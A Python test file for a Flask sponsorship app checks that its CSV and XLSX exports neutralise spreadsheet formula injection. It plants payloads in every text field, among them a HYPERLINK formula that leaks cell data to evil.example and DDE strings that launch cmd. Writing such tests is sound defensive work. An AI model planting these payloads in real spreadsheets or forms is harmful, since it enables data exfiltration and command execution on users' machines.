"""Every export in every flavour (commas, semicolons, workbook) opens without running a
formula: payloads starting with =, +, -, @, tab and CR in every text column a user can
fill, read back with the separator it was written with and the other, and the workbook
read back with openpyxl, where no cell may be a formula."""

from __future__ import annotations

import csv
import io
from datetime import date

import openpyxl
import pytest
from flask.testing import FlaskClient

from godparents import spreadsheets
from godparents.actions.models import Action, ActionKind
from godparents.exports import EXPORTS
from godparents.extensions import db
from godparents.prisoners.import_plan import plan_import
from godparents.prisoners.import_read import read_prisoners
from tests.factories import make_coordinator, make_prisoner, make_sponsor, make_sponsorship
from tests.helpers import LoginAs

PAYLOADS = (
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "Postcard sent;=cmd|' /C calc'!A0",
)
FLAVOURS = {
    "comma": ("/coordinator/prisoners/export/{}.csv", "text/csv"),
    "semicolon": ("/coordinator/prisoners/export/{}.csv?separator=semicolon", "text/csv"),
    "xlsx": ("/coordinator/prisoners/export/{}.xlsx", spreadsheets.XLSX_MIMETYPE),
}


def _runnable(cells: list[str]) -> list[str]:
    starts = tuple(spreadsheets.FORMULA_STARTS)
    return [
        cell
        for cell in cells
        if cell.lstrip(' "').startswith(starts) or (cell[:1] != "" and cell[:1] in "\t\r")
    ]


def _plant() -> None:
    """One record of each kind with a payload in every text column an export writes."""
    for number, payload in enumerate(PAYLOADS):
        sponsor = make_sponsor(
            full_name=payload, title=payload, party=payload, public_quote=payload, phone=payload
        )
        prisoner = make_prisoner(
            address=payload,
            name_latin=payload,
            sentence=payload,
            public_bio=payload,
            external_id=f"x-{number}",
            articles=[payload],
        )
        pairing = make_sponsorship(sponsor, prisoner)
        db.session.add(
            Action(
                sponsorship=pairing,
                kind=ActionKind.LETTER,
                occurred_on=date(2026, 5, 21),
                summary=payload,
                link=payload,
            )
        )
    db.session.commit()


@pytest.mark.parametrize("flavour", FLAVOURS)
def test_no_export_runs_a_formula_in_any_flavour(
    app, login_as: LoginAs, client: FlaskClient, flavour: str
) -> None:
    _plant()
    login_as(make_coordinator().email)
    path, mimetype = FLAVOURS[flavour]
    for kind in EXPORTS:
        response = client.get(path.format(kind))
        assert response.status_code == 200, kind
        assert response.mimetype == mimetype
        disposition = response.headers["Content-Disposition"]
        assert disposition.startswith(f'attachment; filename="{kind}-')
        if flavour == "xlsx":
            book = openpyxl.load_workbook(io.BytesIO(response.data))
            cells = [cell for row in book.active.iter_rows() for cell in row]
            assert [cell.coordinate for cell in cells if cell.data_type == "f"] == [], kind
            texts = [str(cell.value) for cell in cells if cell.value is not None]
            assert _runnable(texts) == [], kind
            assert any(text.startswith("'@SUM") for text in texts) or kind == "prisoners"
            assert book.active.title == kind
            continue
        text = response.get_data(as_text=True)
        assert text.startswith(spreadsheets.BOM)
        written_with = ";" if flavour == "semicolon" else ","
        for delimiter in ",;":
            rows = list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=delimiter))
            assert _runnable([cell for row in rows for cell in row]) == [], (kind, delimiter)
        rows = list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=written_with))
        assert len(rows) == 1 + len(PAYLOADS), kind  # the header and one row each
        assert len({len(row) for row in rows}) == 1, kind


def test_the_flavours_hold_the_same_cells(app, login_as: LoginAs, client: FlaskClient) -> None:
    _plant()
    login_as(make_coordinator().email)
    comma = client.get("/coordinator/prisoners/export/actions.csv").get_data(as_text=True)
    semicolon = client.get("/coordinator/prisoners/export/actions.csv?separator=semicolon")
    workbook = client.get("/coordinator/prisoners/export/actions.xlsx")
    expected = list(csv.reader(io.StringIO(comma[1:], newline="")))
    assert expected[0][:2] == ["id", "sponsorship_id"]
    assert "Postcard sent;'=cmd|' /C calc'!A0" in [row[-4] for row in expected]
    assert (
        list(
            csv.reader(io.StringIO(semicolon.get_data(as_text=True)[1:], newline=""), delimiter=";")
        )
        == expected
    )
    assert 'filename="actions-' in semicolon.headers["Content-Disposition"]
    assert semicolon.headers["Content-Disposition"].endswith('-semicolon.csv"')
    book = openpyxl.load_workbook(io.BytesIO(workbook.data))
    read = [["" if cell is None else cell for cell in row] for row in book.active.values]
    # A workbook's text has line feeds where the CSV has carriage returns (XML reads them so).
    assert read == [[cell.replace("\r", "\n") for cell in row] for row in expected]


def test_a_control_character_does_not_break_the_workbook(
    app, login_as: LoginAs, client: FlaskClient
) -> None:
    pairing = make_sponsorship(make_sponsor(), make_prisoner())
    db.session.add(
        Action(
            sponsorship=pairing,
            kind=ActionKind.CARD,
            occurred_on=date(2026, 5, 1),
            summary="a\x01b",
        )
    )
    db.session.commit()
    login_as(make_coordinator().email)
    response = client.get("/coordinator/prisoners/export/actions.xlsx")
    assert response.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(response.data))
    assert "a\ufffdb" in [cell for row in book.active.values for cell in row]


def test_only_coordinators_and_only_known_flavours(
    app, login_as: LoginAs, client: FlaskClient
) -> None:
    sponsor = make_sponsor()
    login_as(sponsor.email)
    for path in ("/coordinator/prisoners/export/actions.xlsx", "/coordinator/prisoners/export"):
        assert client.get(path).status_code == 403
    client.post("/auth/logout", data={"csrf_token": ""})
    login_as(make_coordinator().email)
    assert client.get("/coordinator/prisoners/export/actions.csv?separator=tab").status_code == 404
    assert client.get("/coordinator/prisoners/export/nothing.xlsx").status_code == 404
    page = client.get("/coordinator/prisoners/export").get_data(as_text=True)
    for kind in EXPORTS:
        for link in (f"{kind}.csv", f"{kind}.csv?separator=semicolon", f"{kind}.xlsx"):
            assert f'href="/coordinator/prisoners/export/{link}"' in page


def test_the_prisoners_workbook_imports_again_unchanged(
    app, login_as: LoginAs, client: FlaskClient
) -> None:
    make_prisoner(external_id="r-1", name_latin="Ales Bialiatski", sentence="=1+1")
    make_prisoner(external_id="r-2", name_ru="Мария Колесникова", public_bio="-; @SUM(1+1)")
    login_as(make_coordinator().email)
    for path, name in (
        ("/coordinator/prisoners/export/prisoners.xlsx", "prisoners.xlsx"),
        ("/coordinator/prisoners/export/prisoners.csv?separator=semicolon", "prisoners.csv"),
    ):
        result = read_prisoners(client.get(path).data, name)
        assert result.ok, (name, result.errors)
        plan = plan_import(result.rows, db.session)
        assert plan.unchanged == ["r-1", "r-2"] and not plan.writes, name
